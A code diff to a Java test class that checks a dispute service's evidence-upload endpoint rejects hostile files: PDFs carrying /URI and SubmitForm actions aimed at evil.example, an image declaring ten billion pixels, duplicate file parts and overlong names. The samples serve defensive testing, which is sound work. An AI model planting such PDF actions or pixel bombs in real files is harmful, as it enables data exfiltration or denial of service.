@@ -34,7 +34,8 @@ import cn.kameng.refunddesk.support.TestDisputes;
  * name is only a label, and nothing refused leaves a trace in the store, the rows or the timeline.
  */
 @DisputeServiceTest
-@TestPropertySource(properties = "dispute.evidence.max-file-size=64KB")
+@TestPropertySource(properties = {"dispute.evidence.max-file-size=64KB", "spring.servlet.multipart.max-file-size=192KB",
+        "spring.servlet.multipart.max-request-size=256KB"})
 class HostileUploadTest {
 
     @Autowired TestRestTemplate http;
@@ -58,6 +59,17 @@ class HostileUploadTest {
         headers.setContentType(MediaType.MULTIPART_FORM_DATA);
         return http.withBasicAuth(user, "demo").postForEntity("/api/v1/disputes/" + disputeId + "/evidence",
                 new HttpEntity<>(parts, headers), Map.class);
+    }
+
+    private static HttpEntity<ByteArrayResource> filePart(byte[] content, String fileName, String declaredType) {
+        HttpHeaders partHeaders = new HttpHeaders();
+        partHeaders.setContentType(MediaType.parseMediaType(declaredType));
+        return new HttpEntity<>(new ByteArrayResource(content) {
+            @Override
+            public String getFilename() {
+                return fileName;
+            }
+        }, partHeaders);
     }
 
     private List<Path> storedFiles() throws Exception {
@@ -140,7 +152,7 @@ class HostileUploadTest {
         assertRefused(upload("buyer1", d.id(), "PROBLEM_SCREENSHOT", EvidenceFiles.jpegWithScript(), "b.jpg",
                 "image/jpeg"), HttpStatus.UNSUPPORTED_MEDIA_TYPE, d.id(), "<script");
         assertRefused(upload("merchant1", d.id(), "USAGE_LOG", EvidenceFiles.pdfWithJavaScript(), "log.pdf",
-                "application/pdf"), HttpStatus.UNSUPPORTED_MEDIA_TYPE, d.id(), "/javascript");
+                "application/pdf"), HttpStatus.UNSUPPORTED_MEDIA_TYPE, d.id(), "/OpenAction with /JavaScript");
         assertThat(storedFiles()).isEqualTo(before);
     }
 
@@ -186,6 +198,78 @@ class HostileUploadTest {
                 d.id(), "no dispute");
         assertRefused(upload("arbiter1", d.id(), "OTHER", png, "a.png", "image/png"), HttpStatus.FORBIDDEN, d.id(),
                 "only the customer or the merchant");
+        assertThat(storedFiles()).isEqualTo(before);
+    }
+
+    @Test
+    void aPdfWithAnActionIsRefusedNamingTheAction() throws Exception {
+        Dispute d = given.open(2500, Reason.INVALID_CARD_KEY);
+        List<Path> before = storedFiles();
+
+        assertRefused(upload("merchant1", d.id(), "DELIVERY_RECORD",
+                EvidenceFiles.pdfWith("/Annots [<< /A << /S /URI /URI (https://evil.example/) >> >>]"), "发货记录.pdf",
+                "application/pdf"), HttpStatus.UNSUPPORTED_MEDIA_TYPE, d.id(), "the PDF carries /URI");
+        assertRefused(upload("merchant1", d.id(), "DELIVERY_RECORD",
+                EvidenceFiles.pdfWith("/AA << /WC << /S /SubmitForm /F (https://evil.example/) >> >>"), "a.pdf",
+                "application/pdf"), HttpStatus.UNSUPPORTED_MEDIA_TYPE, d.id(), "the PDF carries /AA");
+        assertThat(storedFiles()).isEqualTo(before);
+    }
+
+    @Test
+    void aPixelBombIsRefusedUndecoded() throws Exception {
+        Dispute d = given.open(2500, Reason.INVALID_CARD_KEY);
+        List<Path> before = storedFiles();
+
+        assertRefused(upload("buyer1", d.id(), "ORDER_SCREENSHOT", EvidenceFiles.pngDeclaring(100_000, 100_000),
+                "order.png", "image/png"), HttpStatus.UNSUPPORTED_MEDIA_TYPE, d.id(),
+                "declares 100000 × 100000 = 10000000000 pixels; an evidence image may have at most 100000000");
+        assertThat(storedFiles()).isEqualTo(before);
+    }
+
+    @Test
+    void aSecondFilePartIsRefusedNotIgnored() throws Exception {
+        Dispute d = given.open(2500, Reason.INVALID_CARD_KEY);
+        LinkedMultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
+        parts.add("kind", "ORDER_SCREENSHOT");
+        parts.add("file", filePart(EvidenceFiles.png(), "a.png", "image/png"));
+        parts.add("file", filePart(EvidenceFiles.jpeg(), "b.jpg", "image/jpeg"));
+        HttpHeaders headers = new HttpHeaders();
+        headers.setContentType(MediaType.MULTIPART_FORM_DATA);
+
+        ResponseEntity<Map> answer = http.withBasicAuth("buyer1", "demo").postForEntity(
+                "/api/v1/disputes/" + d.id() + "/evidence", new HttpEntity<>(parts, headers), Map.class);
+
+        assertRefused(answer, HttpStatus.BAD_REQUEST, d.id(), "file: was sent 2 times");
+        assertThat((Map<String, String>) answer.getBody().get("errors")).containsKey("file");
+    }
+
+    @Test
+    void aFileNameOver255CharactersIs400OnFileWhateverItsLength() throws Exception {
+        Dispute d = given.open(2500, Reason.INVALID_CARD_KEY);
+        byte[] png = EvidenceFiles.png();
+        assertThat(upload("buyer1", d.id(), "ORDER_SCREENSHOT", png, "截".repeat(251) + ".png", "image/png")
+                .getStatusCode()).isEqualTo(HttpStatus.CREATED);
+        int before = rows(d.id());
+
+        for (String name : List.of("a".repeat(252) + ".png", "截".repeat(300) + ".png", "a".repeat(5000) + ".png")) {
+            ResponseEntity<Map> answer = upload("buyer1", d.id(), "ORDER_SCREENSHOT", png, name, "image/png");
+            assertThat(answer.getStatusCode()).as(name.length() + " characters").isEqualTo(HttpStatus.BAD_REQUEST);
+            assertThat(answer.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
+            assertThat((Map<String, String>) answer.getBody().get("errors")).containsKey("file");
+            assertThat((String) answer.getBody().get("detail")).startsWith("file").doesNotContain("-1")
+                    .contains(name.length() > 4096 ? "longer than the 4096 bytes" : "at most 255");
+        }
+        assertThat(rows(d.id())).isEqualTo(before);
+    }
+
+    @Test
+    void a413OfTheMultipartParserSaysItsRealLimit() throws Exception {
+        Dispute d = given.open(2500, Reason.INVALID_CARD_KEY);
+        List<Path> before = storedFiles();
+
+        ResponseEntity<Map> file = upload("merchant1", d.id(), "USAGE_LOG", new byte[220 * 1024], "usage.txt",
+                "text/plain");
+        assertRefused(file, HttpStatus.PAYLOAD_TOO_LARGE, d.id(), "larger than the 196608 bytes");
         assertThat(storedFiles()).isEqualTo(before);
     }
 }
